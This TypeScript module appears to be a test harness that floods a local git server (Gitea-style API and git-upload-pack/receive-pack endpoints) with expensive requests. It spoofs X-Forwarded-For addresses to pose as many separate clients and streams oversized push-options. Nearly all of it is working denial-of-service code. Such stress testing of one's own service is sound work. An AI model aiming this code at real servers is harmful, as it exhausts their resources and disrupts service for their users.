/** Anonymous clients that request what costs most and read nothing: each from its own address, as fast as they can. */
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

export interface Targets {
  readonly url: string
  /** A public repository with a large file, one of millions of lines, and many refs. */
  readonly repo: string
  readonly tip: string
  readonly push: { readonly repo: string; readonly token: string }
}

/** How long each holds its connection before it requests again. */
const HOLD_MS = 2_000
const UPLOAD = 'content-type: application/x-git-upload-pack-request\r\ngit-protocol: version=2\r\n'
const OPTION = 'o'.repeat(60_000)
const OPTIONS_AT_ONCE = 50

export const pkt = (text: string) => (text.length + 4).toString(16).padStart(4, '0') + text

type Ask = (targets: Targets, i: number) => string

const KINDS: readonly Ask[] = [
  ({ repo }) => get(`/api/v1/repos/${repo}/raw/zeros`),
  ({ repo }, i) => get(`/api/v1/repos/${repo}/commits?stat=true&files=true&page=1&limit=${1 + (i % 40)}`),
  ({ repo, tip }, i) =>
    post(repo, UPLOAD, [`want ${tip}\n`, `filter blob:limit=${100 + i}m\n`, 'done\n'], 'fetch', i),
  ({ repo }, i) => post(repo, UPLOAD, ['ref-prefix refs/\n', `ref-prefix none-${i}\n`], 'ls-refs', i),
  ({ repo, tip }, i) => post(repo, UPLOAD, [`want ${tip}\n`, `filter corrupt-${i}\n`, 'done\n'], 'fetch', i),
]

function get(path: string): string {
  return `GET ${path} HTTP/1.1\r\nhost: x\r\n`
}

function post(repo: string, head: string, args: readonly string[], command: string, i: number): string {
  const body = `${pkt(`command=${command}\n`)}${pkt(`agent=x${i}\n`)}0001${args.map(pkt).join('')}0000`
  return `POST /${repo}.git/git-upload-pack HTTP/1.1\r\nhost: x\r\n${head}content-length: ${body.length}\r\n\n${body}`
}

/** Runs until the signal; returns the number of requests. */
export async function attack(targets: Targets, count: number, signal: AbortSignal): Promise<number> {
  let asked = 0
  const one = async (number: number) => {
    for (let i = number; !signal.aborted; i += count) {
      const ask = KINDS[number % KINDS.length] ?? get('/')
      await holdOn(targets, typeof ask === 'string' ? ask : ask(targets, i), addressOf(number), signal)
      asked += 1
    }
  }
  await Promise.all([...Array.from({ length: count }, (_, i) => one(i)), pushOptions(targets, signal)])
  return asked
}

const addressOf = (number: number) => `198.51.100.${number % 250}`

/** Reads at most the beginning of the answer. */
async function holdOn(
  { url }: Targets,
  request: string,
  address: string,
  signal: AbortSignal,
): Promise<void> {
  const socket = connect(Number(new URL(url).port), '127.0.0.1')
  socket.on('error', () => undefined)
  const forwarded = `x-forwarded-for: ${address}\r\n`
  const [head = '', body = ''] = request.split('\r\n\n')
  socket.write(`${head.trimEnd()}\r\n${forwarded}\r\n${body}`)
  await sleep(HOLD_MS, undefined, { signal }).catch(() => undefined)
  socket.destroy()
}

/** One client has push access, and sends more before the pack than any push needs. */
async function pushOptions({ url, push, tip }: Targets, signal: AbortSignal): Promise<void> {
  for (let i = 0; !signal.aborted; i++) {
    const socket = connect(Number(new URL(url).port), '127.0.0.1')
    let isOpen = true
    socket
      .on('error', () => undefined)
      .on('close', () => (isOpen = false))
      .resume()
    const command = (name: string, words: string) =>
      pkt(`${'0'.repeat(40)} ${tip} refs/heads/${name}-${i}\0 report-status ${words}`)
    socket.write(
      `POST /${push.repo}.git/git-receive-pack HTTP/1.1\r\nhost: x\r\nauthorization: token ${push.token}\r\n` +
        'content-type: application/x-git-receive-pack-request\r\ncontent-length: 200000000\r\n\r\n' +
        `${command('a', 'agent=x')}${command('b', 'push-options')}0000`,
    )
    for (let sent = 0; sent < 40 && isOpen && !signal.aborted; sent++) {
      const written = new Promise((resolve) => socket.write(pkt(OPTION).repeat(OPTIONS_AT_ONCE), resolve))
      await Promise.race([written, sleep(HOLD_MS)])
    }
    socket.destroy()
    await sleep(HOLD_MS, undefined, { signal }).catch(() => undefined)
  }
}
